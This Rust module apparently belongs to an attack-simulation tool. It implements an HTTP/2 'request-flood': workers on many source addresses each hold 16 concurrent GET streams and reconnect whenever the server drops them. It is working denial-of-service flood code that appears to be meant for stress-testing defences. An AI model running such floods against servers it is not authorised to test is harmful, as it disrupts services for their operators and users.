//! The multiplexed side of `request-flood`: HTTP/2 connections from many addresses, each
//! keeping [`STREAMS`] requests in flight (a new one as each answer is read), reconnecting
//! when the server closes one. A connection the server will not speak HTTP/2 on is refused.

use std::sync::Arc;
use std::sync::atomic::Ordering;

use bytes::Bytes;
use tokio::task::JoinSet;

use super::{AttackCounters, AttackCtx, workers};
use crate::client::Buffers;

/// Requests in flight on each connection (below every server's concurrent-stream limit).
pub const STREAMS: usize = 16;

/// Runs `connections` multiplexing workers asking for `path` until `ctx.until`; worker `i`
/// sends from source address `first_source + i`.
pub async fn run(
    ctx: AttackCtx,
    counters: Arc<AttackCounters>,
    connections: usize,
    first_source: usize,
    path: &'static str,
) {
    workers::run(
        ctx,
        counters,
        connections,
        move |ctx, counters, i| async move { worker(&ctx, first_source + i, counters, path).await },
    )
    .await;
}

async fn worker(ctx: &AttackCtx, i: usize, counters: Arc<AttackCounters>, path: &'static str) {
    let src = ctx.sources.pick(i);
    let uri = format!("https://{}{path}", ctx.client.host());
    loop {
        let open = async {
            let tls = ctx.client.h2_from(src, Buffers::default()).await.ok()??;
            h2::client::handshake(tls).await.ok()
        };
        let Some((send, conn)) = workers::attempt(&counters, open).await else {
            continue;
        };
        counters.opened();
        // Dropped with the set when the connection ends, or with this task at the deadline.
        let mut streams = JoinSet::new();
        for _ in 0..STREAMS {
            streams.spawn(requests(send.clone(), uri.clone(), counters.clone()));
        }
        tokio::select! {
            _ = conn => {}
            () = async { while streams.join_next().await.is_some() {} } => {}
        }
        counters.closed();
        counters.cut.fetch_add(1, Ordering::Relaxed);
    }
}

/// One stream slot: a request, its whole response, the next, until the connection fails.
async fn requests(
    mut send: h2::client::SendRequest<Bytes>,
    uri: String,
    counters: Arc<AttackCounters>,
) {
    loop {
        let Ok(ready) = send.ready().await else {
            return;
        };
        send = ready;
        let Ok(req) = http::Request::get(uri.as_str())
            .header("user-agent", "attack-sim request-flood")
            .body(())
        else {
            return;
        };
        let Ok((response, _)) = send.send_request(req, true) else {
            return;
        };
        counters.sent(1);
        let Ok(response) = response.await else {
            return;
        };
        counters.answered(response.status().as_u16());
        let mut body = response.into_body();
        while let Some(chunk) = body.data().await {
            let Ok(chunk) = chunk else {
                return;
            };
            let _ = body.flow_control().release_capacity(chunk.len());
        }
    }
}
